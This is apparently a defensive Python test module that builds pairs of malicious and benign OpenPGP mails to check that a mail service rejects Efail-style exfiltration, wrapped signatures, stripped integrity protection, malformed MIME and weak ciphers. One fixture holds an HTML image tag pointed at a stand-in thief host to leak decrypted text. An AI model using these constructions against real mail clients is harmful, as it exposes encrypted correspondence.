"""Attacks on what stands around the encryption of OpenPGP, and on the encryption itself."""

import pgp_shapes as shapes
from pairs import Attacks, Twins
from pgp_packets import armoured, bare, joined, literal, split
from pgp_world import World

from ivr.domain.mail import Reason

TEXT = shapes.TEXT
LURE = b"+491234567"
BESIDE = b"Content-Type: text/plain\r\n\r\nCall %b at once.\r\n" % LURE
attack: Attacks[World] = Attacks()


@attack("nothing-hidden", Reason.NOT_ENCRYPTED)
def in_clear(here: World) -> Twins:
    return shapes.mail(TEXT), shapes.mutt(here.sealed(TEXT))


@attack("nothing-hidden", Reason.NOT_ENCRYPTED)
def signed_alone(here: World) -> Twins:
    packets = here.team.signed(TEXT)
    return shapes.mutt(armoured(packets)), shapes.mutt(here.encrypted(packets))


@attack("nothing-hidden", Reason.NOT_ENCRYPTED)
def signed_alone_by_mime(here: World) -> Twins:
    content = shapes.encapsulated(TEXT, here.team.detached(TEXT))
    return shapes.mail(content), shapes.mutt(here.encrypted(literal(content)))


@attack("another-list", Reason.NOT_TO_US)
def to_another(here: World) -> Twins:
    return shapes.mutt(here.team.sealed(TEXT, here.other.fingerprint)), shapes.mutt(here.sealed(TEXT))


@attack("another-list", Reason.NOT_TO_US)
def to_another_who_is_hidden(here: World) -> Twins:
    other = here.team.sealed(TEXT, here.other.fingerprint, "--throw-keyids")
    return shapes.mutt(other), shapes.mutt(here.sealed(TEXT, "--throw-keyids"))


@attack("another-list", Reason.NOT_TO_US)
def signed_for_another_list(here: World) -> Twins:
    """A member of both has decrypted it, and encrypts it to this one."""
    (first, text, _) = split(here.team.signed(TEXT, "--digest-algo", "SHA256"))
    bad, good = (
        shapes.mutt(here.encrypted(joined([first, text, (2, here.team.signed_for(TEXT, reader))])))
        for reader in (here.other.fingerprint, here.own)
    )
    return bad, good


@attack("malformed", Reason.MALFORMED)
def to_whoever_knows_a_passphrase(here: World) -> Twins:
    how = ("--symmetric", "--pinentry-mode", "loopback", "--passphrase", "secret")
    return shapes.mutt(here.sealed(TEXT, *how)), shapes.mutt(here.sealed(TEXT))


@attack("direct-exfiltration", Reason.NOT_WHOLLY_SIGNED)
def exfiltrated_by_parts_around_it(here: World) -> Twins:
    """The open attribute of one part swallows the next, decrypted (Efail, 2018)."""
    sealed = here.sealed(TEXT)
    head, _, rest = shapes.pgp_mime(sealed).partition(b"Content-Type: multipart/encrypted")
    part = b"Content-Type: multipart/encrypted" + rest
    html = b'--x\r\nContent-Type: text/html\r\n\r\n<img src="http://thief.example/\r\n'
    mixed = b'Content-Type: multipart/mixed; boundary="x"\r\n\r\n' + html
    return head + mixed + b"--x\r\n" + part + b"\r\n" + html + b"--x--\r\n", shapes.pgp_mime(sealed)


@attack("direct-exfiltration", Reason.NOT_WHOLLY_SIGNED)
def a_text_where_exchange_has_an_empty_one(here: World) -> Twins:
    sealed = here.sealed(TEXT)
    return shapes.exchange(sealed, b"Call %b." % LURE), shapes.exchange(sealed)


@attack("direct-exfiltration", Reason.NOT_WHOLLY_SIGNED)
def a_text_after_the_parts_of_exchange(here: World) -> Twins:
    good = shapes.exchange(here.sealed(TEXT))
    return good + b"Call %b.\r\n" % LURE, good


@attack("direct-exfiltration", Reason.NOT_WHOLLY_SIGNED)
def a_third_part(here: World) -> Twins:
    sealed = here.sealed(TEXT)
    mail = shapes.pgp_mime(sealed)
    return mail.replace(b"--b0undary--", b"--b0undary\r\n" + BESIDE + b"--b0undary--"), mail


@attack("direct-exfiltration", Reason.NOT_WHOLLY_SIGNED)
def text_after_the_parts(here: World) -> Twins:
    sealed = here.sealed(TEXT)
    return shapes.pgp_mime(sealed, after=b"Call +491234567.\n"), shapes.pgp_mime(sealed, after=b"\n")


@attack("direct-exfiltration", Reason.NOT_WHOLLY_SIGNED)
def text_before_the_parts(here: World) -> Twins:
    sealed = here.sealed(TEXT)
    hint = b"This is an OpenPGP/MIME encrypted message (RFC 4880 and 3156)\n"
    return shapes.pgp_mime(sealed, preamble=hint + BESIDE), shapes.pgp_mime(sealed, preamble=hint)


@attack("direct-exfiltration", Reason.NOT_WHOLLY_SIGNED)
def text_before_armour(here: World) -> Twins:
    sealed = here.sealed(TEXT)
    return shapes.inline(sealed, before=b"Call +491234567.\n"), shapes.inline(sealed, before=b"\n")


@attack("direct-exfiltration", Reason.NOT_WHOLLY_SIGNED)
def text_after_armour(here: World) -> Twins:
    sealed = here.sealed(TEXT)
    return shapes.inline(sealed, after=b"\n-- \nfooter of a list\n"), shapes.inline(sealed, after=b"\n")


@attack("direct-exfiltration", Reason.NOT_WHOLLY_SIGNED)
def armour_twice(here: World) -> Twins:
    sealed = here.sealed(TEXT)
    return shapes.inline(sealed + sealed), shapes.inline(sealed)


@attack("direct-exfiltration", Reason.NOT_WHOLLY_SIGNED)
def armour_in_html(here: World) -> Twins:
    mail = shapes.inline(here.sealed(TEXT))
    return mail.replace(b"text/plain", b"text/html"), mail


@attack("signed-outside", Reason.SIGNED_OUTSIDE)
def signed_around_by_mime(here: World) -> Twins:
    """By whoever: it says only that he has seen the mail."""
    sealed = here.team.sealed(TEXT, here.own)
    inner = shapes.pgp_mime(sealed).partition(b"MIME-Version: 1.0\r\n")[2]
    inner = inner[inner.index(b"Content-Type:") :]
    return shapes.mail(
        shapes.encapsulated(inner, here.stranger.detached(inner)).replace(b"\r\n", b"\n")
    ), shapes.pgp_mime(sealed)


@attack("signed-outside", Reason.SIGNED_OUTSIDE)
def signed_around_by_packets(here: World) -> Twins:
    sealed = bare(here.sealed(TEXT))
    (first, _, last) = split(here.stranger.signed(sealed))
    around = armoured(joined([first]) + sealed + joined([last]))
    return shapes.mutt(around), shapes.mutt(armoured(sealed))


@attack("signed-outside", Reason.SIGNED_OUTSIDE)
def signed_around_in_a_text(here: World) -> Twins:
    sealed = here.sealed(TEXT)
    clear = here.stranger.gpg("--clearsign", given=sealed)
    return shapes.inline(clear), shapes.inline(sealed)


def _unreadable(here: World, benign: bytes, broken: bytes) -> Twins:
    """In the header fields of the encrypted part, where Python's `email` fails."""
    good = shapes.pgp_mime(here.sealed(TEXT)).replace(b"octet-stream", b"octet-stream; " + benign)
    return good.replace(benign, broken), good


@attack("malformed", Reason.MALFORMED)
def a_name_in_two_ways(here: World) -> Twins:
    return _unreadable(here, b"name*0*=a", b"name*0*=a; name*=b")


@attack("malformed", Reason.MALFORMED)
def a_boundary_in_two_ways(here: World) -> Twins:
    good = shapes.pgp_mime(here.sealed(TEXT))
    return good.replace(b'boundary="b0undary"', b"boundary*0*=b0undary; boundary*=b"), good


@attack("malformed", Reason.MALFORMED)
def a_name_in_no_charset(here: World) -> Twins:
    return _unreadable(here, b"name*=utf-8''x", b"name*=\0''x")


@attack("malformed", Reason.MALFORMED)
def a_name_in_no_charset_by_pieces(here: World) -> Twins:
    return _unreadable(here, b"name*0*=utf-8''x", b"name*0*=%00''x")


# The encryption itself


@attack("malleability", Reason.NO_INTEGRITY)
def without_modification_detection(here: World) -> Twins:
    packets = here.team.signed(TEXT)
    how = ("--cipher-algo", "AES256")
    bad = here.encrypted(packets, "--rfc2440", *how)
    return shapes.mutt(bad), shapes.mutt(here.encrypted(packets, *how))


@attack("malleability", Reason.NO_INTEGRITY)
def modification_detection_taken_off(here: World) -> Twins:
    """The packet is called one without it (Efail, 2018)."""
    sealed = bare(here.encrypted(here.team.signed(TEXT)))
    parts = [(9, body[1:-22]) if tag == 18 else (tag, body) for tag, body in split(sealed)]
    return shapes.mutt(armoured(joined(parts))), shapes.mutt(armoured(sealed))


@attack("malleability", Reason.CHANGED)
def one_bit_turned_on_the_way(here: World) -> Twins:
    sealed = bare(here.encrypted(here.team.signed(TEXT)))
    return shapes.mutt(armoured(sealed[:-40] + bytes([sealed[-40] ^ 1]) + sealed[-39:])), shapes.mutt(
        armoured(sealed)
    )


@attack("signature-wrapping", Reason.NOT_WHOLLY_SIGNED)
def two_encrypted_messages(here: World) -> Twins:
    sealed = bare(here.sealed(TEXT))
    return shapes.mutt(armoured(sealed + sealed)), shapes.mutt(armoured(sealed))


@attack("signature-wrapping", Reason.NOT_WHOLLY_SIGNED)
def a_text_behind_the_encrypted_one(here: World) -> Twins:
    sealed = bare(here.sealed(TEXT))
    return shapes.mutt(armoured(sealed + literal(BESIDE))), shapes.mutt(armoured(sealed))


@attack("huge-and-nested", Reason.TOO_COMPLEX)
def encrypted_twice(here: World) -> Twins:
    sealed = bare(here.sealed(TEXT))
    return shapes.mutt(here.encrypted(sealed)), shapes.mutt(armoured(sealed))


@attack("huge-and-nested", Reason.TOO_COMPLEX)
def to_hundreds_of_keys(here: World) -> Twins:
    sealed = bare(here.sealed(TEXT))
    key = joined([split(sealed)[0]])
    return shapes.mutt(armoured(key * 300 + sealed)), shapes.mutt(armoured(key * 99 + sealed))


@attack("malformed", Reason.MALFORMED)
def cut_off(here: World) -> Twins:
    sealed = bare(here.sealed(TEXT))
    return shapes.mutt(armoured(sealed[:-9])), shapes.mutt(armoured(sealed))


def weak_cipher(name: str) -> None:
    def make(here: World) -> Twins:
        packets = here.team.signed(TEXT)
        # GnuPG asks for this word since 2.3, and has not known it before.
        old = () if b"GnuPG) 2.2" in here.team.gpg("--version") else ("--allow-old-cipher-algos",)
        twin = here.encrypted(packets, "--cipher-algo", "AES")
        return shapes.mutt(here.encrypted(packets, *old, "--cipher-algo", name)), shapes.mutt(twin)

    attack.made[f"encrypted_with_{name}"] = ("weak", Reason.WEAK_CIPHER, make)


for _name in ("3DES", "CAST5", "BLOWFISH", "IDEA"):
    weak_cipher(_name)
